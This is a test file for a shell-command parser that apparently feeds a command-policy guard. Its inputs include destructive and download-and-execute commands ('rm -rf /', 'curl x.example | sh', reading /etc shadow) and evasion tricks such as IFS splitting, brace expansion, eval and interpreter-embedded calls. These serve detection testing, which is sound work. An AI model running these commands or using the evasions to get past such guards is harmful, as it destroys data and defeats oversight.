"""The shell parser: parts, connections, redirections, wrappers, embedded code, robustness."""

from __future__ import annotations

import shlex

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from codor.policy.shell import (
    MAX_DEPTH,
    FileOp,
    ParseResult,
    Part,
    file_ops,
    interpreter,
    parse_argv,
    parse_command,
    programs_of,
    write_targets,
)


def argvs(command: str) -> list[tuple[str, ...]]:
    return [p.argv for p in parse_command(command).parts if p.argv]


def only(command: str) -> Part:
    parts = [p for p in parse_command(command).parts if p.argv]
    assert len(parts) == 1, parts
    return parts[0]


def clean(command: str) -> ParseResult:
    result = parse_command(command)
    assert not result.unparseable, result.error
    return result


# -- splitting into parts ---------------------------------------------------------------------
@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("ls -la", [("ls", "-la")]),
        ("a; b", [("a",), ("b",)]),
        ("a && b || c", [("a",), ("b",), ("c",)]),
        ("a & b", [("a",), ("b",)]),
        ("a\nb\n\nc", [("a",), ("b",), ("c",)]),
        ("a | b | c", [("a",), ("b",), ("c",)]),
        ("a |& b", [("a",), ("b",)]),
        ("(a; b) && c", [("a",), ("b",), ("c",)]),
        ("{ a; b; } | c", [("a",), ("b",), ("c",)]),
        ("if a; then b; elif c; then d; else e; fi", [("a",), ("b",), ("c",), ("d",), ("e",)]),
        ("while a; do b; done", [("a",), ("b",)]),
        ("until a; do b; done", [("a",), ("b",)]),
        ("for x in 1 2; do echo $x; done", [("echo", "$x")]),
        ("for ((i=0; i<3; i++)); do b; done", [("b",)]),
        ("case $x in a|b) one;; *) two;; esac", [("one",), ("two",)]),
        ("case x in (a) one;;& b) two;& *) three;; esac", [("one",), ("two",), ("three",)]),
        ("f() { a; }; f", [("a",), ("f",)]),
        ("function g { a; }", [("a",)]),
        ("! a | b", [("a",), ("b",)]),
        ("time -p a", [("a",)]),
        ("[[ -f x && $(id) ]]", [("id",)]),
        ("(( $(id -u) == 0 ))", [("id", "-u")]),
        ("echo $((1 + 2))", [("echo", "$((1 + 2))")]),
        ("ls # rm -rf /", [("ls",)]),
        ("ls \\\n  -la", [("ls", "-la")]),
        ("coproc cat", [("cat",)]),
    ],
)
def test_commands_split_into_parts(command: str, expected: list[tuple[str, ...]]) -> None:
    assert argvs(command) == expected
    assert not parse_command(command).unparseable


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("echo 'a b' \"c d\" e\\ f", ("echo", "a b", "c d", "e f")),
        ("echo \"it's\" 'say \"hi\"'", ("echo", "it's", 'say "hi"')),
        ('"r""m" -rf x', ("rm", "-rf", "x")),
        ("r''m x", ("rm", "x")),
        ("\\rm x", ("rm", "x")),
        ("echo \"a \\\"b\\\" \\$c \\d\"", ("echo", 'a "b" $c \\d')),
        ("echo $'a\\tb\\x41\\101\\n'", ("echo", "a\tbAA\n")),
        ("echo \\#not-a-comment a#b", ("echo", "#not-a-comment", "a#b")),
        ("echo {a,b}c", ("echo", "ac", "bc")),
        ("echo x{1..3}", ("echo", "x1", "x2", "x3")),
        ("echo '{a,b}' \"{c,d}\" {}", ("echo", "{a,b}", "{c,d}", "{}")),
        ("echo ~/x \"$HOME\"/y", ("echo", "~/x", "$HOME/y")),
        ("echo \"${HOME}\" ${x:-$y}", ("echo", "${HOME}", "${x:-$y}")),
    ],
)
def test_quotes_and_escapes_are_removed(command: str, expected: tuple[str, ...]) -> None:
    assert only(command).argv == expected


def test_assignments_before_the_program_are_separated() -> None:
    p = only("A=1 B='x y' make -j2 C=3")
    assert p.assigns == ("A=1", "B=x y")
    assert p.argv == ("make", "-j2", "C=3")


def test_a_quoted_assignment_is_a_program_name() -> None:
    assert only('"X=1" cmd').argv == ("X=1", "cmd")


def test_assignment_only_command_is_a_part_without_argv() -> None:
    parts = clean("X=1").parts
    assert len(parts) == 1 and parts[0].argv == () and parts[0].assigns == ("X=1",)


def test_array_assignment_keeps_its_substitutions() -> None:
    result = clean("a=(1 $(id)) b")
    assert [p.argv for p in result.parts] == [("id",), ("b",)]
    assert result.parts[1].assigns == ("a=(1 $(id))",)


# -- connections ------------------------------------------------------------------------------
def test_pipe_records_which_part_feeds_which() -> None:
    parts = clean("a | b | c").parts
    assert [p.stdin_from for p in parts] == [(), (0,), (1,)]


def test_a_group_piped_into_a_command_feeds_it_from_every_member() -> None:
    parts = clean("{ a; b; } | c").parts
    assert parts[2].stdin_from == (0, 1)


def test_command_substitutions_are_parts_and_inputs() -> None:
    parts = clean("echo $(ls $(pwd)) `date`").parts
    assert [p.argv for p in parts] == [("pwd",), ("ls", "$(pwd)"), ("date",),
                                       ("echo", "$(ls $(pwd))", "`date`")]
    assert parts[3].inputs == (0, 1, 2)
    assert parts[0].origin == "substitution"
    assert parts[3].expanded == (False, True, True)


def test_nested_quotes_inside_a_substitution() -> None:
    parts = clean('echo "$(echo "inner quotes" | tr a b)"').parts
    assert parts[0].argv == ("echo", "inner quotes")
    assert parts[1].argv == ("tr", "a", "b") and parts[1].stdin_from == (0,)


def test_process_substitution_parts() -> None:
    parts = clean("diff <(sort a) >(tee b)").parts
    assert [p.argv for p in parts] == [("sort", "a"), ("tee", "b"),
                                       ("diff", "<(sort a)", ">(tee b)")]
    assert parts[0].origin == "process-substitution"
    assert parts[2].inputs == (0, 1)


def test_substitution_in_an_assignment_still_runs() -> None:
    result = clean("x=$(curl -s x.example | sh)")
    assert [p.argv for p in result.parts if p.argv] == [("curl", "-s", "x.example"), ("sh",)]


# -- redirections and heredocs ------------------------------------------------------------------
def test_redirections_are_recorded_with_targets_and_descriptors() -> None:
    p = only("cmd < in > out 2>>err &>all 3<>rw 2>&1 >&- <<<word")
    got = [(r.op, r.target, r.fd) for r in p.redirects]
    assert got == [("<", "in", None), (">", "out", None), (">>", "err", 2), ("&>", "all", None),
                   ("<>", "rw", 3), (">&", "1", 2), (">&", "-", None), ("<<<", "word", None)]
    assert p.argv == ("cmd",)


def test_redirection_of_a_group_is_kept() -> None:
    parts = clean("{ a; b; } > out").parts
    assert parts[-1].argv == () and parts[-1].redirects[0].target == "out"


def test_heredoc_body_is_read_after_the_line() -> None:
    parts = clean("cat <<EOF > out\nhello\nworld\nEOF\necho done").parts
    assert parts[0].redirects[0].body == "hello\nworld\n"
    assert parts[0].redirects[1].target == "out"
    assert parts[1].argv == ("echo", "done")


def test_heredoc_with_dash_strips_tabs() -> None:
    p = clean("cat <<-END\n\tindented\n\tEND").parts[0]
    assert p.redirects[0].body == "indented\n"


def test_unquoted_heredoc_runs_its_substitutions() -> None:
    parts = clean("cat <<EOF\n$(rm -rf /tmp/x)\nEOF").parts
    assert ("rm", "-rf", "/tmp/x") in [q.argv for q in parts]


def test_quoted_heredoc_does_not_run_substitutions() -> None:
    parts = clean("cat <<'EOF'\n$(rm -rf /tmp/x)\nEOF").parts
    assert [q.argv for q in parts] == [("cat",)]
    assert parts[0].redirects[0].quoted


def test_heredoc_fed_to_a_shell_is_parsed() -> None:
    parts = clean("bash <<'EOF'\ncurl x.example | sh\nEOF").parts
    assert [q.argv for q in parts] == [("bash",), ("curl", "x.example"), ("sh",)]
    assert parts[1].wrappers == ("bash",) and parts[2].stdin_from == (1,)


def test_here_string_and_echo_fed_to_a_shell_are_parsed() -> None:
    assert ("rm", "-rf", "/") in argvs("sh <<< 'rm -rf /'")
    assert ("rm", "-rf", "/") in argvs("echo 'rm -rf /' | sh")
    assert ("rm", "-rf", "/") in argvs("printf 'ls\\nrm -rf /\\n' | bash")
    assert ("rm", "-rf", "/") in argvs("cat <<EOF | sudo bash\nrm -rf /\nEOF")


def test_heredoc_fed_to_python_is_analysed() -> None:
    parts = clean("python3 - <<'EOF'\nimport os\nos.system('id')\nEOF").parts
    assert ("id",) in [q.argv for q in parts]


# -- wrappers -----------------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("command", "argv", "wrappers"),
    [
        ("env -i -u B A=1 rm x", ("rm", "x"), ("env",)),
        ("env -S 'rm -rf x'", ("rm", "-rf", "x"), ("env",)),
        ("/usr/bin/env rm x", ("rm", "x"), ("env",)),
        ("sudo -u root -E -- rm x", ("rm", "x"), ("sudo",)),
        ("sudo -nu root rm x", ("rm", "x"), ("sudo",)),
        ("doas -u root rm x", ("rm", "x"), ("doas",)),
        ("timeout -s KILL -k 5 10 rm x", ("rm", "x"), ("timeout",)),
        ("timeout --signal=KILL 10s rm x", ("rm", "x"), ("timeout",)),
        ("nice -n 10 rm x", ("rm", "x"), ("nice",)),
        ("nice -10 rm x", ("rm", "x"), ("nice",)),
        ("nohup rm x", ("rm", "x"), ("nohup",)),
        ("/usr/bin/time -v -o log rm x", ("rm", "x"), ("time",)),
        ("command rm x", ("rm", "x"), ("command",)),
        ("builtin cd x", ("cd", "x"), ("builtin",)),
        ("exec -a name rm x", ("rm", "x"), ("exec",)),
        ("stdbuf -oL -e0 rm x", ("rm", "x"), ("stdbuf",)),
        ("ionice -c 3 rm x", ("rm", "x"), ("ionice",)),
        ("setsid -f rm x", ("rm", "x"), ("setsid",)),
        ("xargs -0 -n 1 rm -f", ("rm", "-f"), ("xargs",)),
        ("xargs -I{} rm {}", ("rm", "{}"), ("xargs",)),
        ("uv run --with rich python app.py", ("python", "app.py"), ("uv",)),
        ("busybox rm x", ("rm", "x"), ("busybox",)),
    ],
)
def test_wrappers_are_unwrapped(command: str, argv: tuple[str, ...],
                                wrappers: tuple[str, ...]) -> None:
    p = only(command)
    assert (p.argv, p.wrappers) == (argv, wrappers)


def test_wrappers_inside_wrappers() -> None:
    parts = clean('sudo env X=1 timeout 5 bash -c "curl x.example | sh"').parts
    assert [p.argv for p in parts] == [("curl", "x.example"), ("sh",)]
    assert parts[0].wrappers == ("sudo", "env", "timeout", "bash")
    assert parts[1].stdin_from == (0,) and parts[1].sink == "shell"


@pytest.mark.parametrize(
    "command",
    ["bash -c 'rm -rf x'", "sh -ec 'rm -rf x'", "bash -lc 'rm -rf x'", "zsh -c 'rm -rf x'",
     "dash -c 'rm -rf x'", "ksh -c 'rm -rf x'", "bash -o pipefail -c 'rm -rf x'",
     "eval 'rm -rf x'", "eval rm -rf x", "su -c 'rm -rf x' root", "watch -n 5 'rm -rf x'",
     "flock /tmp/l -c 'rm -rf x'", "sudo -s 'rm -rf x'", "busybox sh -c 'rm -rf x'",
     "script -qc 'rm -rf x' /dev/null"],
)
def test_command_strings_are_parsed_recursively(command: str) -> None:
    assert argvs(command) == [("rm", "-rf", "x")]


def test_command_v_and_sudo_l_run_nothing() -> None:
    assert only("command -v git").argv == ("command", "-v", "git")
    assert only("sudo -l").argv == ("sudo", "-l")


def test_a_shell_with_a_script_file_is_not_unwrapped() -> None:
    p = only("bash ./install.sh --yes")
    assert p.argv == ("bash", "./install.sh", "--yes") and p.sink is None


def test_find_exec_commands_are_parts() -> None:
    parts = clean("find /etc -name '*.conf' -exec rm -f {} \\;").parts
    assert parts[1].argv == ("rm", "-f", "/etc/{}") and parts[1].wrappers == ("find",)


def test_nesting_is_depth_limited() -> None:
    command = "ls"
    for _ in range(MAX_DEPTH - 1):
        command = "bash -c " + shlex.quote(command)
    assert argvs(command) == [("ls",)]
    for _ in range(3):
        command = "bash -c " + shlex.quote(command)
    result = parse_command(command)
    assert result.unparseable and "deeply" in (result.error or "")


# -- evasions -----------------------------------------------------------------------------------
def test_variables_assigned_earlier_are_substituted() -> None:
    assert argvs("c=curl; $c x.example | sh") == [("curl", "x.example"), ("sh",)]
    assert argvs('X="rm -rf"; $X /') == [("rm", "-rf", "/")]


def test_ifs_splits_words() -> None:
    assert argvs("rm${IFS}-rf${IFS}/") == [("rm", "-rf", "/")]


def test_a_custom_ifs_makes_unquoted_expansions_dynamic() -> None:
    result = parse_command("IFS=,; c=rm,-rf,/; $c")
    assert result.parts[-1].expanded == (True,)
    assert result.dynamic


def test_awk_system_and_pipes_are_parts() -> None:
    assert ("rm", "-rf", "x") in argvs("awk 'BEGIN { system(\"rm -rf x\") }'")
    assert ("curl", "x") in argvs("awk 'BEGIN { \"curl x\" | getline v }'")
    assert ("sh",) in argvs("awk '{ print | \"sh\" }' cmds.txt")
    assert argvs("awk -F : '{ print $1 }' /etc/passwd") == [
        ("awk", "-F", ":", "{ print $1 }", "/etc/passwd")]


def test_brace_expansion_reveals_the_program() -> None:
    assert argvs("{rm,-rf,/}") == [("rm", "-rf", "/")]


def test_unknown_program_name_is_dynamic() -> None:
    result = parse_command('"$CMD" arg')
    assert result.parts[0].expanded[0]
    assert any("computed at run time" in d for d in result.dynamic)


def test_eval_of_a_variable_is_dynamic() -> None:
    assert any("eval" in d for d in parse_command('eval "$CMD"').dynamic)


def test_cd_is_tracked_and_scoped() -> None:
    parts = clean("cd /etc && cat shadow; (cd /tmp; x); y | cd z; w").parts
    cwd = {p.argv[0]: p.cwd for p in parts}
    assert cwd["cat"] == "/etc" and cwd["x"] == "/tmp" and cwd["w"] == "/etc"
    assert clean("cd a && cd b && f").parts[2].cwd == "a/b"
    assert clean("cd $X && f").parts[1].cwd is None
    parts = clean("pushd /tmp; a; popd; b").parts
    assert [p.cwd for p in parts] == ["", "/tmp", "/tmp", ""]


# -- Python and other interpreters --------------------------------------------------------------
@pytest.mark.parametrize(
    ("code", "expected"),
    [
        ("import os; os.system('rm -rf x')", ("rm", "-rf", "x")),
        ("import os as o; o.popen('rm -rf x')", ("rm", "-rf", "x")),
        ("from os import system; system('rm -rf x')", ("rm", "-rf", "x")),
        ("from os import *; system('rm -rf x')", ("rm", "-rf", "x")),
        ("__import__('os').system('rm -rf x')", ("rm", "-rf", "x")),
        ("import subprocess; subprocess.run(['rm', '-rf', 'x'])", ("rm", "-rf", "x")),
        ("import subprocess as sp; sp.call('rm -rf x', shell=True)", ("rm", "-rf", "x")),
        ("import subprocess; subprocess.Popen('rm -rf x'.split())", ("rm", "-rf", "x")),
        ("import subprocess; subprocess.check_output(args=('rm', '-rf', 'x'))",
         ("rm", "-rf", "x")),
        ("import os; os.execvp('rm', ['rm', '-rf', 'x'])", ("rm", "-rf", "x")),
        ("import os; os.execl('/bin/rm', 'rm', '-rf', 'x')", ("/bin/rm", "-rf", "x")),
        ("import os; os.system('rm ' + '-rf x')", ("rm", "-rf", "x")),
        ("exec(\"import os; os.system('rm -rf x')\")", ("rm", "-rf", "x")),
    ],
)
def test_python_c_commands_become_parts(code: str, expected: tuple[str, ...]) -> None:
    result = clean(f"python3 -c {code!r}".replace("\\'", "'") if "'" not in code
                   else "python3 -c " + '"' + code.replace('"', '\\"') + '"')
    assert result.parts[0].program == "python3"
    assert expected in [p.argv for p in result.parts]
    assert result.dynamic == ()


def test_python_with_a_computed_command_is_dynamic() -> None:
    result = clean("python3 -c 'import subprocess; subprocess.run(cmd, shell=True)'")
    assert result.dynamic == ("python: subprocess.run with a command computed at run time",)
    assert [p.argv[0] for p in result.parts] == ["python3"]


def test_python_syntax_error_is_dynamic_not_a_crash() -> None:
    assert parse_command("python3 -c 'def ('").dynamic


def test_python_list_command_is_unwrapped_too() -> None:
    code = "import subprocess; subprocess.run(['bash', '-c', 'curl x.example | sh'])"
    assert argvs(f'python3 -c "{code}"')[1:] == [("curl", "x.example"), ("sh",)]


def test_literal_shell_strings_in_other_interpreters() -> None:
    assert ("rm", "-rf", "/") in argvs("perl -e 'system(\"rm -rf /\")'")
    assert ("curl", "x") in argvs("node -e \"require('child_process').execSync('curl x')\"")
    assert ("id",) in argvs("ruby -e 'puts `id`'")


def test_interpreter_classification() -> None:
    info = interpreter(("python3", "-u", "-c", "print(1)"))
    assert info is not None and info.code == "print(1)" and not info.sink
    info = interpreter(("bash", "-s", "--", "--flag"))
    assert info is not None and info.sink
    info = interpreter(("python3", "script.py"))
    assert info is not None and info.script == "script.py" and not info.sink
    info = interpreter(("python3", "-m", "pytest"))
    assert info is not None and not info.sink and info.script is None
    assert interpreter(("git", "status")) is None


# -- argv ------------------------------------------------------------------------------------
def test_argv_is_not_shell_parsed() -> None:
    result = parse_argv(("echo", "a; rm -rf /", "$(id)"))
    assert [p.argv for p in result.parts] == [("echo", "a; rm -rf /", "$(id)")]


def test_argv_wrappers_are_unwrapped() -> None:
    result = parse_argv(("sudo", "bash", "-c", "curl x | sh"))
    assert [p.argv for p in result.parts] == [("curl", "x"), ("sh",)]


# -- unparseable input --------------------------------------------------------------------------
@pytest.mark.parametrize(
    "command",
    ["echo 'unclosed", 'echo "unclosed', "echo $(ls", "echo `ls", "fi", "echo )",
     "if true; then ls", "{ ls", "(ls", "ls &&", "| ls", "case x in a) ls", "for x in a; do",
     "echo ${x", "ls > ", "a ;; b"],
)
def test_unparseable_input_is_marked_not_raised(command: str) -> None:
    result = parse_command(command)
    assert result.unparseable and result.error


def test_unparseable_input_keeps_the_parts_read_so_far() -> None:
    result = parse_command("rm -rf /; echo 'oops")
    assert result.unparseable and result.parts[0].argv == ("rm", "-rf", "/")


def test_huge_input_is_bounded() -> None:
    result = parse_command("ls; " * 10_000)
    assert result.unparseable and "too many" in (result.error or "")


def test_pathological_brace_expansion_is_capped() -> None:
    p = only("echo " + "{a,b}" * 30)
    assert len(p.argv) == 2


# -- helpers for other modules --------------------------------------------------------------
def test_programs_of_lists_programs_and_wrappers() -> None:
    assert programs_of("sudo timeout 5 rm -rf x && ls | wc -l") == ("sudo", "timeout", "rm",
                                                                    "ls", "wc")
    assert programs_of(None, ["env", "git", "push"]) == ("env", "git")


def test_write_targets_follow_cd_and_home() -> None:
    targets = write_targets("cd .codor && echo x > policy.yaml; rm -f $HOME/a; tee -a /b < c")
    assert targets == (".codor/policy.yaml", "~/a", "/b")
    assert write_targets(None, ["cp", "a", "b"]) == ("b",)


def test_file_ops_of_common_programs() -> None:
    def ops(command: str) -> list[tuple[str, str]]:
        return [(o.op, o.path) for p in parse_command(command).parts for o in file_ops(p)]

    assert ops("cat a b") == [("read", "a"), ("read", "b")]
    assert ops("head -n 5 f") == [("read", "f")]
    assert ops("grep -r pat src") == [("read", "src")]
    assert ops("grep -e pat f") == [("read", "f")]
    assert ops("sed -i.bak s/a/b/ f") == [("write", "f")]
    assert ops("cp -r a b dst") == [("read", "a"), ("read", "b"), ("write", "dst")]
    assert ops("mv -t dst a") == [("delete", "a"), ("write", "dst")]
    assert ops("rm -rf x y") == [("delete", "x"), ("delete", "y")]
    assert ops("chmod -R 755 d") == [("write", "d")]
    assert ops("dd if=a of=b") == [("read", "a"), ("write", "b")]
    assert ops("curl -o out -d @body.json https://x.example") == [("write", "out"),
                                                                  ("read", "body.json")]
    assert ops("python3 tools/x.py ~/y data.csv") == [("read", "tools/x.py"), ("read", "~/y")]
    assert ops("echo a/b > f") == [("write", "f")]
    assert file_ops(Part(("cat", "server.pem")), lambda n: n.endswith(".pem")) == [
        FileOp("read", "server.pem", True)]


# -- properties ---------------------------------------------------------------------------------
_WORD = st.from_regex(r"[a-z][a-z0-9_.-]{0,7}", fullmatch=True).filter(
    lambda w: w not in {"if", "then", "elif", "else", "fi", "do", "done", "case", "esac",
                        "while", "until", "for", "select", "function", "coproc", "time", "in",
                        "cd", "pushd", "eval", "exec", "command", "builtin", "env", "sudo",
                        "doas", "su", "runuser", "pkexec", "timeout", "gtimeout", "nice",
                        "nohup", "stdbuf", "ionice", "setsid", "chroot", "taskset", "chrt",
                        "unbuffer", "noglob", "nocorrect", "busybox", "xargs", "watch", "flock",
                        "find", "uv", "poetry", "pipenv", "pdm", "hatch"}
    and interpreter((w,)) is None)
_SIMPLE = st.lists(_WORD, min_size=1, max_size=5).map(" ".join)


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=200))
def test_the_parser_never_raises_on_arbitrary_text(text: str) -> None:
    result = parse_command(text)
    assert isinstance(result, ParseResult)
    for p in result.parts:
        assert len(p.expanded) == len(p.argv)
        assert all(0 <= j < len(result.parts) for j in (*p.stdin_from, *p.inputs))


_SHELLISH = st.lists(st.sampled_from(
    [*"ab $(){}[]<>|&;'\"`\\\n#=!*~-/.", "$(", "<<EOF\n", "EOF", "bash -c ", "eval ", "case ",
     " in ", "esac", "if ", " then ", "fi", "<(", "${", "$'", "[[ ", "((", "function ", "sudo ",
     "xargs ", "python3 -c ", "X=1 ", "cd ", "{a,b}", "$IFS", "find . -exec ", " {} ;"]),
    max_size=40).map("".join)


@settings(max_examples=500, deadline=None)
@given(_SHELLISH)
def test_the_parser_never_raises_on_shell_like_text(text: str) -> None:
    result = parse_command(text)
    assert result.error is None or not result.error.startswith("command could not be")


@settings(max_examples=200, deadline=None)
@given(st.lists(st.text(max_size=30), min_size=1, max_size=6))
def test_argv_parsing_never_raises(argv: list[str]) -> None:
    result = parse_argv(tuple(argv))
    assert result.error is None or not result.error.startswith("command could not be")


@settings(max_examples=300, deadline=None)
@given(_SIMPLE, _SIMPLE, st.sampled_from(["; ", " && ", " || ", "\n", " & "]))
def test_parts_of_a_sequence_are_the_parts_of_each_side(a: str, b: str, sep: str) -> None:
    joined = parse_command(a + sep + b)
    assert not joined.unparseable
    assert joined.parts == parse_command(a).parts + parse_command(b).parts


def test_sqlite3_writes_its_database_unless_read_only() -> None:
    assert write_targets("sqlite3 .codor/state.db 'UPDATE workflow_sessions SET phase=1'") \
        == (".codor/state.db",)
    assert write_targets("sqlite3 -cmd '.timeout 1' -bail app.db < dump.sql") == ("app.db",)
    assert write_targets("sqlite3 -readonly app.db 'SELECT 1'") == ()
